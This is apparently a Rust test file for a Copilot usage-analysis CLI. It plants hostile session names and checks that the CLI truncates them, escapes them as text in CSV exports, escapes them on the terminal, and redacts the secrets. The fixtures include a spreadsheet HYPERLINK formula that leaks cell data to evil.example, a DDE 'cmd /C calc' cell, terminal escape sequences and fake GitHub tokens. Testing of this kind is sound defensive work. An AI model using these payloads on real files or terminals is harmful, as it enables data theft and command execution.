//! Names made to harm whoever reads the outputs (issue 48): a name too long for a table, a
//! name that opens as a formula in a spreadsheet, a name holding a terminal's escape
//! sequences, secrets in branches and odd spellings, a model that is a private path. Each is
//! planted in a home made here and followed through the CLI and the core's exports.

mod common;

use std::fs;
use std::path::Path;

use serde_json::json;

/// One session of a planted home: where, on which branch, with which model, what it was
/// named and asked.
struct Planted<'a> {
    id: &'a str,
    cwd: &'a str,
    branch: &'a str,
    model: &'a str,
    title: &'a str,
    prompts: &'a [&'a str],
}

impl Default for Planted<'_> {
    fn default() -> Self {
        Planted {
            id: "4a110000-0000-4000-8000-000000000001",
            cwd: "/home/mona/shop",
            branch: "main",
            model: "gpt-5.4",
            title: "add a cart total",
            prompts: &["add a cart total"],
        }
    }
}

/// A home at `home` with the session (on 2026-11-10, its usage in a shutdown), signed in as
/// `login`.
fn plant(home: &Path, session: &Planted<'_>, login: &str) {
    let folder = home.join(".copilot/session-state").join(session.id);
    fs::create_dir_all(&folder).unwrap();
    let mut lines = vec![
        json!({"type": "session.start", "data": {"sessionId": session.id, "copilotVersion": "1.0.102",
            "startTime": "2026-11-10T09:00:00.000Z", "selectedModel": session.model,
            "context": {"cwd": session.cwd, "branch": session.branch}}}),
        json!({"type": "session.model_change", "data": {"newModel": session.model}}),
    ];
    for prompt in session.prompts {
        lines.push(json!({"type": "user.message", "data": {"content": prompt}}));
        lines.push(json!({"type": "assistant.message", "data": {"content": "done", "model": session.model}}));
    }
    lines.push(json!({"type": "session.shutdown", "data": {"shutdownType": "routine", "modelMetrics": {
        session.model: {"requests": {"count": 2, "cost": 1}, "usage": {"inputTokens": 1000, "outputTokens": 100,
            "cacheReadTokens": 0, "cacheWriteTokens": 0, "reasoningTokens": 0}}}}}));
    common::write_events_log(&folder, &lines);
    let title = serde_json::to_string(session.title).unwrap();
    fs::write(folder.join("workspace.yaml"), format!("id: {}\nname: {title}\n", session.id)).unwrap();
    fs::create_dir_all(home.join(".copilot/logs")).unwrap();
    fs::write(
        home.join(".copilot/logs/process-1794301200000-4242.log"),
        format!("2026-11-10T08:59:59.400Z [INFO] Signed in to https://github.com as {login}.\n"),
    )
    .unwrap();
}

/// Runs the CLI in `dir`; returns (stdout, stderr) after checking it succeeded.
fn run_ok(dir: &Path, args: &[&str]) -> (String, String) {
    let output = common::run(dir, args);
    let (stdout, stderr) = (String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    assert!(output.status.success(), "{args:?}: {stderr}");
    (stdout.into_owned(), stderr.into_owned())
}

/// A GitHub usage report of one row: `model` used on 2026-11-10 by mona.
fn bill(path: &Path, model: &str) {
    let mut writer = csv::Writer::from_path(path).unwrap();
    writer
        .write_record([
            "date",
            "username",
            "product",
            "sku",
            "model",
            "quantity",
            "unit_type",
            "applied_cost_per_quantity",
            "gross_amount",
            "discount_amount",
            "net_amount",
        ])
        .unwrap();
    writer
        .write_record([
            "2026-11-10",
            "mona",
            "copilot",
            "copilot_ai_credit",
            model,
            "1",
            "ai-credits",
            "0.01",
            "0.01",
            "0.01",
            "0",
        ])
        .unwrap();
    writer.flush().unwrap();
}

#[test]
fn a_name_of_100000_characters_is_cut_in_every_table() {
    let dir = tempfile::tempdir().unwrap();
    let (model, project) = ("m".repeat(100_000), format!("/home/mona/{}", "p".repeat(100_000)));
    let session = Planted { model: &model, cwd: &project, ..Planted::default() };
    plant(&dir.path().join("home"), &session, "mona");
    // The bill's reader leaves out a row longer than 64 KiB (named on stderr): the long model
    // reaches the bill's table as the home's own row beside the billed one.
    bill(&dir.path().join("bill.csv"), "GPT-4.1");
    let tables = [
        &["usage", "home"][..],
        &["usage", "home", "--by", "model"],
        &["usage", "home", "--by", "project"],
        &["usage", "home", "--by", "session"],
        &["usage", "home", "--bill", "bill.csv", "--user", "mona"],
    ];
    for args in tables {
        let (table, _) = run_ok(dir.path(), args);
        assert!(table.contains("mmmmmmmm…"), "{args:?}: the model is cut:\n{}", &table[..table.len().min(2000)]);
        let widest = table.lines().map(|line| line.chars().count()).max().unwrap_or(0);
        // Not a terminal: each text column is cut to 120 characters.
        assert!(widest < 500, "{args:?}: a line of {widest} characters");
    }
    let (by_project, _) = run_ok(dir.path(), &["usage", "home", "--by", "project"]);
    assert!(by_project.contains("/home/mona/ppppp"), "{by_project}");
    let (with_bill, _) = run_ok(dir.path(), &["usage", "home", "--bill", "bill.csv", "--user", "mona"]);
    let bill_table = &with_bill[with_bill.find("\nbill bill.csv").expect("the bill's table")..];
    assert!(bill_table.contains(" mmmmmmmm") && bill_table.contains("mmmm…"), "{bill_table}");
}

/// What a spreadsheet reads as a formula's start.
fn opens_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\0'])
}

/// A CSV's records, header included.
fn csv_records(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(bytes);
    reader.records().map(|record| record.unwrap().iter().map(str::to_string).collect()).collect()
}

/// Every cell of `records` under `column`.
fn column<'a>(records: &'a [Vec<String>], column: &str) -> Vec<&'a str> {
    let at = records[0].iter().position(|name| name == column).unwrap_or_else(|| panic!("no column {column}"));
    records[1..].iter().map(|record| record[at].as_str()).collect()
}

/// No cell opens as a formula, but a number the project wrote.
fn no_formula(file: &str, records: &[Vec<String>]) {
    for record in records {
        for cell in record {
            assert!(!opens_as_formula(cell) || cell.parse::<f64>().is_ok(), "{file}: {cell:?} opens as a formula");
        }
    }
}

const FORMULA_MODEL: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;

/// A home named `=machine`, signed in as `@mona`, whose session's model, project, branch and
/// prompts start as formulas.
fn formula_home(dir: &Path) -> std::path::PathBuf {
    let home = dir.join("=machine");
    let session = Planted {
        model: FORMULA_MODEL,
        cwd: "+cmd|' /C calc'!A0",
        branch: "-rf",
        title: "@SUM(1+1)",
        prompts: &["=1+2", "\t=tab", "\r=return", "-2", "plain"],
        ..Planted::default()
    };
    plant(&home, &session, "@mona");
    home
}

#[test]
fn every_csv_writes_a_name_that_starts_as_a_formula_as_text() {
    let dir = tempfile::tempdir().unwrap();
    formula_home(dir.path());
    run_ok(dir.path(), &["analyze", "=machine", "--out", "out"]);

    let usage = csv_records(&fs::read(dir.path().join("out/usage.csv")).unwrap());
    no_formula("usage.csv", &usage);
    assert_eq!(column(&usage, "model"), [format!("'{FORMULA_MODEL}")]);
    assert_eq!(column(&usage, "requests"), ["2"], "a figure stays a number");

    for (file, shared) in [("team.csv", false), ("shared.csv", true)] {
        let mut args = vec!["usage", "=machine", "--export", file, "--exported-at", "2026-12-02T09:30:00Z"];
        if shared {
            args.push("--share-projects");
        }
        run_ok(dir.path(), &args);
        let team = csv_records(&fs::read(dir.path().join(file)).unwrap());
        no_formula(file, &team);
        assert_eq!(column(&team, "user"), ["'@mona"], "{file}");
        assert_eq!(column(&team, "machine"), ["'=machine"], "{file}");
        assert_eq!(column(&team, "model"), [format!("'{FORMULA_MODEL}")], "{file}");
        let project = if shared { "'+cmd|' /C calc'!A0".to_string() } else { column(&team, "project")[0].into() };
        assert_eq!(column(&team, "project"), [project.as_str()], "{file}");
        assert_eq!(column(&team, "input"), ["1000"], "{file}: a figure stays a number");
    }

    // rows.csv as the page exports it: the core's writer, from the analysis's rows.
    let rows: Vec<copilot_lens::model::OwnedRow> = common::read(&dir.path().join("out/rows.jsonl"))
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let mut bytes = Vec::new();
    copilot_lens::outputs::write_rows(copilot_lens::outputs::ROWS_CSV, rows.iter(), true, &mut bytes).unwrap();
    let records = csv_records(&bytes);
    no_formula("rows.csv", &records);
    assert_eq!(records.len(), rows.len() + 1, "a record a row");
    for (row, record) in rows.iter().zip(&records[1..]) {
        let fields = serde_json::to_value(row).unwrap();
        for (name, cell) in records[0].iter().zip(record) {
            let written = match &fields[name] {
                serde_json::Value::String(text) => text.clone(),
                other => other.to_string(),
            };
            // The cell reads back as the row's field, a `'` before it where it opens as a formula.
            let expected = if opens_as_formula(&written) { format!("'{written}") } else { written };
            assert_eq!(cell, &expected, "{name}");
        }
    }
    let texts = column(&records, "text");
    for prompt in ["'=1+2", "'\t=tab", "'\r=return", "'-2", "plain"] {
        assert!(texts.contains(&prompt), "{prompt:?} in {texts:?}");
    }
    let branches = column(&records, "git_branch");
    assert!(branches.iter().filter(|branch| !branch.is_empty()).all(|branch| *branch == "'-rf"), "{branches:?}");
    assert!(branches.contains(&"'-rf"));
    assert!(column(&records, "source_line").iter().all(|line| line.parse::<u64>().is_ok()), "numbers as numbers");
}

/// A character a terminal would act on rather than show (but the line feed), or one that
/// reorders the line around it.
fn acted_on(character: char) -> bool {
    (character.is_control() && character != '\n')
        || matches!(character, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

#[test]
fn no_escape_sequence_from_a_name_or_path_reaches_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let home = "home\x1b]0;pwned\x07";
    let session = Planted {
        model: "gpt\x1b[2J\u{9b}31m\u{202e}4.5",
        cwd: "/home/mona/\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
        prompts: &["\x1b[2J\rclear"],
        ..Planted::default()
    };
    plant(&dir.path().join(home), &session, "mona");
    bill(&dir.path().join("bill.csv"), "Claude\x1b[2J\rOpus\u{85}4");
    let runs: [(&[&str], bool); 8] = [
        (&["usage", home], true),
        (&["usage", home, "--by", "project"], true),
        (&["usage", home, "--by", "home"], true),
        (&["usage", home, "--by", "model"], true),
        (&["usage", home, "--bill", "bill.csv", "--user", "mona"], true),
        (&["analyze", home, "--out", "out\x1b[2J"], true),
        (&["usage", "missing\x1b]0;pwned\x07"], false),
        (&["usage", home, "--bill", "none\x1b[31m.csv"], false),
    ];
    for (args, succeeds) in runs {
        let output = common::run(dir.path(), args);
        assert_eq!(output.status.success(), succeeds, "{args:?}");
        for (stream, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
            let text = String::from_utf8_lossy(bytes);
            assert!(!text.chars().any(acted_on), "{args:?}: {stream} holds a control character:\n{text:?}");
        }
        let said = format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
        assert!(said.contains(r"\u{1b}"), "{args:?}: the escape is shown escaped:\n{said}");
    }
    let (table, _) = run_ok(dir.path(), &["usage", home, "--by", "model"]);
    assert!(table.contains(r"gpt\u{1b}[2J\u{9b}31m\u{202e}4.5"), "{table}");
    let (billed, _) = run_ok(dir.path(), &["usage", home, "--bill", "bill.csv", "--user", "mona"]);
    // A label is read as a model id (lower case), its controls shown escaped.
    assert!(billed.contains(r"claude\u{1b}[2j\u{d}opus\u{85}4"), "{billed}");
}

/// A fine-grained token, as the issue found it in a branch's name.
const FINE_GRAINED: &str = "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ012345";
/// A classic token's body, after its `ghp_`.
const CLASSIC_BODY: &str = "R2D2C3POr2d2c3poR2D2C3POr2d2c3poR2D2";

/// A store (`session-store.db`) naming a session the logs do not hold, on `branch`.
fn store_with_branch(home: &Path, id: &str, branch: &str) {
    let connection = rusqlite::Connection::open(home.join(".copilot/session-store.db")).unwrap();
    connection
        .execute_batch(
            "CREATE TABLE sessions ( id TEXT PRIMARY KEY, cwd TEXT, repository TEXT, host_type TEXT, branch TEXT, \
             summary TEXT, created_at TEXT, updated_at TEXT );",
        )
        .unwrap();
    connection
        .execute(
            "INSERT INTO sessions VALUES (?1, '/home/mona/api', NULL, NULL, ?2, 'from the store', \
             '2026-11-11T09:00:00.000Z', '2026-11-11T09:10:00.000Z')",
            [id, branch],
        )
        .unwrap();
}

#[test]
fn secrets_in_branches_and_odd_spellings_and_a_local_models_path_stay_out() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let branch = format!("hotfix/{FINE_GRAINED}");
    let prompts = [
        "clone https://user:p@ss@word@example.com/repo.git".to_string(),
        format!(r#"the tool said {{"content":"line\nghp_{CLASSIC_BODY}\nend"}}"#),
        format!("export MY_TOKEN_ghp_{CLASSIC_BODY} now"),
        format!("open https://example.com/cb?code=ghp%5F{CLASSIC_BODY}&state=1"),
        format!("push to https://x-access-token:{}@github.com/o/r", FINE_GRAINED.replace('_', "%5F")),
    ];
    let prompts: Vec<&str> = prompts.iter().map(String::as_str).collect();
    let title = format!("rotate MY_TOKEN_ghp_{CLASSIC_BODY}");
    let session = Planted {
        branch: &branch,
        model: "/home/alice/models/llama.gguf",
        title: &title,
        prompts: &prompts,
        ..Planted::default()
    };
    plant(&home, &session, "mona");
    store_with_branch(&home, "4a110000-0000-4000-8000-000000000002", &format!("feature/{FINE_GRAINED}"));
    run_ok(dir.path(), &["analyze", "home", "--out", "out"]);
    run_ok(dir.path(), &["report", "home", "--out", "report.html", "--session", session.id, "--today", "2026-11-20"]);
    let exported_at = ["--exported-at", "2026-12-02T09:30:00Z"];
    run_ok(dir.path(), &[&["usage", "home", "--export", "team.csv"][..], &exported_at].concat());
    run_ok(dir.path(), &[&["usage", "home", "--export", "shared.csv", "--share-projects"][..], &exported_at].concat());
    let read = |file: &str| common::read(&dir.path().join(file));
    let secrets = ["github_pat_11ABCDEFG", "ABCDEFG0123456789", CLASSIC_BODY, "p@ss", "ss@word", "p%40ss"];
    for file in ["out/rows.jsonl", "out/sessions.jsonl", "out/report.json", "out/inventory.json", "report.html"] {
        let text = read(file);
        for secret in secrets {
            assert!(!text.contains(secret), "{secret} is in {file}");
        }
    }
    let rows = read("out/rows.jsonl");
    assert!(rows.contains(r#""git_branch":"hotfix/[redacted]""#), "the log's branch, scrubbed");
    assert!(rows.contains(r#""git_branch":"feature/[redacted]""#), "the store's branch, scrubbed");
    assert!(rows.contains("https://user:[redacted]@example.com/repo.git"), "the host stays");
    let sessions = read("out/sessions.jsonl");
    assert!(sessions.contains(r#""git_branch":"hotfix/[redacted]""#) && sessions.contains("feature/[redacted]"));

    let (team, shared) = (read("team.csv"), read("shared.csv"));
    assert!(!team.contains("/home/alice") && !team.contains("llama.gguf"), "a local model's path stays home:\n{team}");
    let model = column(&csv_records(team.as_bytes()), "model")[0].to_string();
    assert!(model.starts_with("model-"), "{model}");
    assert!(shared.contains("/home/alice/models/llama.gguf"), "shared with the projects' paths:\n{shared}");
}
